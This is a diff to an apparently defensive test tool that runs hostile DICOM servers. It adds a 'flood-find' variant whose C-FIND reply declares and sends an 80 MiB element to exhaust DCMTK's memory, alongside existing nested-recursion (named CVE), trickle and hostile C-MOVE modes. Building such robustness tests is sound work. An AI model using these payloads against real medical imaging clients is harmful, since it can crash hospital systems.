@@ -30,7 +30,7 @@ Modes (one listener per --port; --port may be a comma-separated list):
             PDUs of 16 KB): DCMTK 3.6.7 parses that with unbounded recursion (CVE-2026-44031).
             --variant nested-find: the same clean SCP answers C-ECHO, C-STORE, C-MOVE and C-GET
             with success and C-FIND with one pending response whose identifier is nested
-            --depth deep. With --tls-cert/--tls-key (PEM) both variants speak DICOM over TLS.
+            --depth deep. --variant flood-find: the same, the identifier an 80 MiB element. With --tls-cert/--tls-key (PEM) both variants speak DICOM over TLS.
   mover     the clean SCP of badbytes --variant nested-find, answering C-FIND with no match and
             C-STORE with success, that plays a hostile C-MOVE sender when asked to move to AE
             --move-aet (default PACSCAN): it connects from --bind to the requester's address on
@@ -448,6 +448,12 @@ def nested_scp(conn, variant, depth):
                                (0x0800, struct.pack("<H", 0x0101)),
                                (0x0900, struct.pack("<H", 0x0000))]) + nested(depth)
             send_message(conn, pcid, cmd, True)
+        elif field == 0x0020 and variant == "flood-find":
+            # C-FIND-RQ: one pending answer whose identifier declares an 80 MiB Patient's Name
+            # (DCMTK allocates it at once) and sends it all, in PDVs.
+            size = 80 << 20
+            answer(conn, pcid, f, 0xFF00, struct.pack("<HHI", 0x0010, 0x0010, size) + b"A" * size)
+            answer(conn, pcid, f, 0x0000)
         elif field == 0x0020:  # C-FIND-RQ: one pending answer, its identifier nested
             answer(conn, pcid, f, 0xFF00, nested(depth))
             answer(conn, pcid, f, 0x0000)
@@ -620,7 +626,7 @@ def handle(mode, conn, peer, local_port, rec, text="", http=False, variant="ac",
         if mode == "decoy":
             decoy(conn)
             return
-        if mode == "badbytes" and variant in ("nested", "nested-find"):
+        if mode == "badbytes" and variant in ("nested", "nested-find", "flood-find"):
             if opts.tls_cert:
                 conn = tls_wrap(conn, opts)
                 if conn is None:
@@ -783,7 +789,7 @@ def main():
                     help="banner: the answer as hex bytes (any bytes, not only UTF-8)")
     ap.add_argument("--http", action="store_true", help="banner: answer HTTP, --text as Server")
     ap.add_argument("--variant", default=None,
-                    choices=["ac", "rj", "abort", "nested", "nested-find", "trickle",
+                    choices=["ac", "rj", "abort", "nested", "nested-find", "flood-find", "trickle",
                              "trickle-rq"],
                     help="badbytes: which PDU carries the hostile bytes (default ac); "
                          "mover: trickle (default), trickle-rq or nested")
